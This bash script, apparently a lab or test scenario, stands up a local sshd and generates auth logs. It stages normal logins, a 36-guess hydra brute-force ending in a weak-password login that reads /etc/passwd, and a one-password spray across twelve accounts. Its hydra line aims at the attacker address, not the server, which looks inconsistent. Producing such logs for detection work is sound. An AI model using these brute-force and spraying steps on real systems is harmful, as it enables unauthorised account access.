# A password guesser against sshd: 36 guesses, the last finds a weak password; then
# one password tried on many accounts; beside it the log-ons of an ordinary morning.
# shellcheck shell=bash disable=SC2154  # names come from cell.sh

login() {  # login USER PASSWORD FROM COMMAND
  sshpass -p "$2" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 -o BindAddress="$3" \
    "$1@$server" "$4" || true
}

start_sshd() {
  ssh-keygen -q -t ed25519 -N '' -f /tmp/host_key
  printf '%s\n' 'HostKey /tmp/host_key' 'UsePAM yes' 'PasswordAuthentication yes' \
    'PermitRootLogin prohibit-password' 'MaxStartups 30:50:60' >/tmp/sshd_config
  start /usr/sbin/sshd -D -f /tmp/sshd_config
  wait_for bash -c "</dev/tcp/$server/22" 2>/dev/null
}

ordinary_morning() {
  login an 'Dung-Doan-2026' "${office[0]}" 'uptime'
  login binh 'sai-mat-khau' "${office[1]}" 'true'
  login binh 'Cau-Rao-2026' "${office[1]}" 'ls'
}

guess() {
  printf '%s\n' root admin quantri oracle >/tmp/users
  printf '%s\n' 123456 admin password abc123 haiphong hp2026 qwerty 111111 123456a@ >/tmp/passwords
  hydra -L /tmp/users -P /tmp/passwords -t 4 -u "ssh://$attacker" || true
  login_as_attacker
}
login_as_attacker() { login quantri '123456a@' "$attacker" 'id; cat /etc/passwd | wc -l'; }

spray() {
  local person
  for person in an binh chi dung giang ha khanh lan minh nam oanh phuc; do
    login "$person" 'HaiPhong@2026' "$sprayer" true
  done
}

add_person an 'Dung-Doan-2026'
add_person binh 'Cau-Rao-2026'
add_person quantri '123456a@' sudo
for person in chi dung giang ha; do add_person "$person" "$(head -c 12 /dev/urandom | base64)"; done
start_syslog 'auth,authpriv.*' auth.log
start_sshd
ordinary_morning
guess
spray
login an 'Dung-Doan-2026' "${office[0]}" 'df -h'
sleep 1
keep auth.log
